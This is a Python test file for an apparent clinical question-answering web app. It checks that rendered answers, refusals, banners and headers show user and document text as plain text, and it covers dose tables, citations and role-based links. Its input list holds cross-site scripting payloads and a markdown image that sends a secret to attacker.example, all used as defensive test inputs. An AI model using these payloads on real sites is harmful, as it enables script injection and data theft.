"""What is shown is text: nothing from documents or questions becomes markup."""

import re
from html.parser import HTMLParser

from hypothesis import given, settings
from hypothesis import strategies as st

from assistant.accounts import Account, Role
from assistant.answers import Notice
from assistant.web.rendering import (
    render_answer,
    render_failure,
    render_for_whom,
    render_narrowed,
    render_said,
    render_thread,
    render_waiting,
    spoken,
)
from assistant.web.service import Overview
from assistant.web.shell import render_header
from tests.assistant.web.answers import answered, cited, refused

HOSTILE = st.sampled_from(
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        '"><svg onload=alert(1)>',
        "' onmouseover='alert(1)",
        '" autofocus onfocus="alert(1)',
        "</blockquote></td></article><iframe srcdoc=x>",
        "[click](javascript:alert(1))",
        "![x](https://attacker.example/?q=secret)",
        "<!-- --><a href=javascript:alert(1)>",
        "${alert(1)} {{7*7}} {% raw %} `",
        "&lt;b&gt;",
    ]
)
WILD = st.lists(HOSTILE | st.text(max_size=20), min_size=1, max_size=4).map("".join).filter(bool)
ALLOWED = re.compile(
    "div|p|span|[uo]l|li|d[ltd]|section|article|strong|header|footer|aside|nav|h[1234]|a|sup|q|pre|"
    "blockquote|table|thead|tbody|t[rhd]|code|i|form|button|mark"
)
ATTRIBUTES = re.compile(
    "class|id|href|role|scope|tabindex|type|hidden|method|action|"
    "aria-(label|hidden|expanded|controls|current)|data-(header|source|number|record|copy|print)"
)
OURS = re.compile(
    r"/source\?document=[^\"'<>\s]*|/answers/[0-9a-f]{32}|/(curate/|review/|account)?"
)


class Reader(HTMLParser):
    """Collects the tags, attributes, links and words of a page."""

    def __init__(self, html):
        super().__init__()
        self.tags, self.attributes, self.links, self.words = set(), set(), [], []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}
        self.links += [value for name, value in attrs if name == "href"]

    def handle_data(self, data):
        self.words.append(data)

    def handle_comment(self, data):
        raise AssertionError("a comment in the page")


def read_safely(html):
    reader = Reader(html)
    assert all(map(ALLOWED.fullmatch, reader.tags))
    assert all(map(ATTRIBUTES.fullmatch, reader.attributes))
    assert all(map(OURS.fullmatch, reader.links))
    return "".join(reader.words)


@settings(deadline=None)  # the first answer loads the lists of drugs
@given(title=WILD, heading=WILD, quote=WILD, question=WILD, notice=WILD)
def test_an_answer_shows_hostile_text_as_text(title, heading, quote, question, notice):
    citation = cited(1, quote, title=title, section=(heading,), version=title)
    header = cited(2, f"{title} | {heading}", title=title, section=(heading,))
    row = cited(3, f"{quote} | {quote}", title=title, section=(heading,))
    answer = answered(
        [(quote, (1, 2)), (f"{title}: {quote}; {heading}: {quote}", (3, 2), True)],
        [citation, header, row],
        question=question,
        notices=[notice],
    )
    words = read_safely(render_answer(answer, 3, narrowed=[title], copied=quote))
    assert notice in words
    assert title in words


@given(title=WILD, heading=WILD, question=WILD, message=WILD)
def test_a_refusal_shows_hostile_text_as_text(title, heading, question, message):
    nearest = cited(1, "x", title=title, section=(heading,))
    words = read_safely(render_answer(refused(message, [nearest], question=question), 3))
    assert message in words
    assert question in words


@given(WILD)
def test_a_failure_and_a_banner_show_hostile_text_as_text(words):
    overview = Overview("a", 1, "1", (), (), (), ())
    assert words in read_safely(render_failure(words))
    assert words in read_safely(render_header(words, overview))


@given(WILD)
def test_small_parts_show_hostile_text_as_text(words):
    account = Account(words, frozenset(Role))
    for html in (
        render_header("", None, account),
        render_thread((words,)),
        render_narrowed([words]),
        render_said(words),
        render_for_whom(words),
    ):
        assert words in read_safely(html)


def test_a_number_opens_its_source_with_what_it_is_read_with():
    citations = [cited(1, "Give zinc.", start=90, end=100), cited(2, "Doses:", start=80, end=86)]
    reader = Reader(render_answer(answered([("Doses: Give zinc.", (1, 2))], citations), 1))
    address = "/source?document=zinc&version=1&start=90&end=100&also=80-86"
    assert reader.links == [address, address]


def test_the_record_of_an_answer_can_be_found_again():
    page = render_answer(answered([("Give zinc.", (1,))], [cited(1, "Give zinc.")]), 47)
    for part in ("0" * 32, "abc", "47 documents in force", "extractive/1", "1.23 s"):
        assert part in page


def test_waiting_is_said_in_words():
    assert "Reading the approved documents" in read_safely(render_waiting())


def test_the_two_sides_of_a_conflict_stand_beside_each_other():
    sides = (
        cited(1, "Zinc 20 mg once daily", title="Ward protocol"),
        cited(2, "Zinc 50 mg once daily", title="National <b>guide</b>", page=7),
    )
    notice = Notice("sources_conflict", "Two documents in force differ.", sides)
    html = render_answer(
        answered([("Zinc 20 mg once daily", (1,))], sides[:1], notices=[notice]), documents=2
    )

    for words in ("Two documents in force differ.", "Zinc 50 mg once daily", "page 7"):
        assert words in read_safely(html)
    assert "National &lt;b&gt;guide" in html
    assert "<mark>50 mg</mark>" in html
    assert "<mark>20 mg</mark>" in html


def test_the_row_asked_about_stands_before_its_table_and_points_to_the_cautions():
    header = cited(9, "Weight | Dose")
    rows = [cited(1, "10 kg | 5 mg"), cited(2, "20 kg | 10 mg")]
    statements = [("Weight: 10 kg; Dose: 5 mg", (1, 9)), ("Weight: 20 kg; Dose: 10 mg", (2, 9))]
    caution = cited(3, "Not in renal failure.")
    answer = answered(
        [*statements, ("Not in renal failure.", (3,), True)],
        [*rows, header, caution],
        question="Zinc dose for a child of 20 kg?",
    )
    html = render_answer(answer, 1)
    core = html[html.index("ca-core") : html.index("<table>")]
    assert "20 kg" in core and "10 mg" in core and "5 mg" not in core
    assert "Read the caution below" in core
    assert html.count("<tr>") + html.count('<tr class="asked-about">') == 3


def test_a_quantity_is_set_apart_and_nothing_of_the_sentence_is_lost():
    html = render_answer(answered([("Give 5 mg/kg.", (1,))], [cited(1, "Give 5 mg/kg.")]), 1)
    assert 'Give <strong class="q whole">5 mg/kg</strong>.' in html


def test_a_notice_that_the_page_shows_itself_is_left_out():
    notices = [Notice("population_not_stated", "For whom?"), Notice("spelling", "Read as zinc.")]
    answer = answered([("Give zinc.", (1,))], [cited(1, "Give zinc.")], notices=notices)
    html = render_answer(answer, 1, said_elsewhere=("population_not_stated",))
    assert "Read as zinc." in html and "For whom?" not in html


def test_what_happened_is_said_in_a_sentence():
    citations = [cited(1, "Give zinc."), cited(2, "Not in renal failure.")]
    statements = [("Give zinc.", (1,)), ("Not in renal failure.", (2,), True)]
    said = "Answered with 1 statement and 1 caution from Zinc in adults."
    assert spoken(answered(statements, citations)) == said
    assert spoken(refused("Nothing.")) == "No answer in the approved documents."
    urgent = Notice("emergency", "Call 2222.")
    assert spoken(answered(statements, citations, notices=[urgent])) == f"Call 2222. {said}"


def test_a_desk_is_named_only_to_those_it_is_for():
    for role, desks in (
        (Role.CLINICIAN, []),
        (Role.CURATOR, ["/", "/curate/"]),
        (Role.REVIEWER, ["/", "/review/"]),
        (Role.ADMIN, ["/", "/review/"]),
    ):
        assert Reader(render_header("", None, Account("Ann", frozenset({role})))).links == [
            *desks,
            "/account",
        ]
    assert Reader(render_header("", None)).links == []


def test_where_more_cautions_are_stands_behind_the_dose_and_other_notices_before_it():
    notices = [Notice("high_risk", "Zinc is high risk."), Notice("cautions_left_out", "2 more.")]
    answer = answered([("Give zinc 20 mg.", (1,))], [cited(1, "Give zinc 20 mg.")], notices=notices)
    words = read_safely(render_answer(answer, 3))
    assert words.index("Zinc is high risk.") < words.index("20 mg") < words.index("2 more.")
